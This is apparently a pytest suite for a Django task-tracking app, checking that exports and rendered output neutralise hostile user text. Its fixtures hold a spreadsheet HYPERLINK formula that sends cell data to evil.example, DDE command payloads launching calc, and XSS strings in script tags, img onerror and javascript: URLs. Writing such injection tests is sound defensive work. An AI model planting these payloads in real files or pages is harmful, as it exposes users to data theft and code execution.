"""User text in files: spreadsheet formulas neutralised in CSV/XLSX (lists and reports), markup
kept as text in DOCX, plain-text emails, escaped SVG chart labels."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture
def hostile(world):
    from theodoi.planning.models import ProgressUpdate, ReviewState

    world.task.title = FORMULA
    world.task.save()
    world.target.text = "+1+cmd|' /C calc'!A0"
    world.target.save()
    ProgressUpdate.objects.create(
        task=world.task, unit=world.vhxh, period_key="2026-05", period_end=dt.date(2026, 5, 14),
        percent=Decimal(60), work_done=f"{FORMULA} {SCRIPT}", difficulties="@SUM(1+1)*cmd|' /C calc'!A0",
        state=ReviewState.APPROVED,
    )
    return world


def _xlsx_cells(content: bytes):
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize("path", ["/tasks.csv", "/targets.csv", "/tasks/?format=csv"])
def test_csv_exports_neutralise_formulas(client, hostile, path):
    client.force_login(hostile.officer)
    resp = client.get(path)
    assert resp.status_code == 200 and resp["Content-Disposition"].startswith("attachment")
    cells = [c for row in csv.reader(io.StringIO(resp.content.decode("utf-8-sig")), delimiter=";") for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert not dangerous, dangerous
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'+1+cmd") for c in cells)


@pytest.mark.parametrize("path", ["/tasks.xlsx", "/targets.xlsx"])
def test_xlsx_exports_hold_no_formula(client, hostile, path):
    client.force_login(hostile.officer)
    resp = client.get(path)
    cells = _xlsx_cells(resp.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any("HYPERLINK" in str(c.value) or "cmd|" in str(c.value) for c in cells)


@pytest.fixture
def report(hostile):
    from theodoi.reporting import draft, services

    r = services.open_report(hostile.xa_a, "monthly", "2026-05", hostile.admin)
    narrative = {k: r.narrative.get(k, "") for k in draft.KEYS}
    narrative[draft.KEYS[0]] = f"{FORMULA}\n{SCRIPT}"
    services.edit(r, hostile.admin, narrative=narrative, version=r.version)
    r.refresh_from_db()
    return r


def test_report_xlsx_holds_no_formula(report):
    from theodoi.reporting import services

    cells = _xlsx_cells(services.render(report, "xlsx"))
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)  # kept, as text


def test_report_docx_keeps_markup_as_text(report):
    from theodoi.reporting import services

    with zipfile.ZipFile(io.BytesIO(services.render(report, "docx"))) as z:
        xml = z.read("word/document.xml").decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in xml and SCRIPT not in xml
    assert "HYPERLINK" in xml and "<w:fldSimple" not in xml and "<w:instrText" not in xml  # no Word field


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
def test_report_download_is_an_attachment(client, hostile, report, fmt):
    client.force_login(hostile.admin)
    resp = client.get(f"/reports/{report.uid}/file.{fmt}")
    assert resp.status_code == 200
    assert resp["Content-Disposition"].startswith("attachment; filename=")
    assert resp["X-Content-Type-Options"] == "nosniff" and "html" not in resp["Content-Type"]


def test_reminder_email_is_plain_text(hostile, mailoutbox):
    from theodoi.jobs import schedule

    hostile.task.title = SCRIPT
    hostile.task.save()
    subject, body = schedule.compose(hostile.vhxh, "before", _period("2026-06"), dt.date(2026, 6, 14),
                                     _items(hostile))
    assert "\n" not in subject and SCRIPT not in subject
    from django.core.mail import send_mail

    send_mail(subject, body, None, ["a@example.test"])
    msg = mailoutbox[-1]
    assert msg.content_subtype == "plain" and not getattr(msg, "alternatives", [])


def _period(key):
    from theodoi.domain import periods

    return periods.as_period(key)


def _items(world):
    from theodoi.jobs.schedule import unsent_by_unit

    return [o for items in unsent_by_unit(_period("2026-06"), dt.date(2026, 6, 14)).values() for o in items]


def test_svg_chart_labels_are_escaped():
    from theodoi.web.charts import Bar, bar_chart, donut, stacked_bar

    bars = [Bar(label=f'{SCRIPT}"><img src=x onerror=alert(1)>', value=3, url='javascript:alert(1)"'),
            Bar(label="Bản <b>Một</b>", value=1)]
    for svg in (bar_chart(bars, title=SCRIPT), stacked_bar(bars, title=SCRIPT), donut(bars, title=SCRIPT)):
        assert "<script" not in svg and "<img" not in svg and "<b>" not in svg
        assert "&lt;script&gt;" in svg
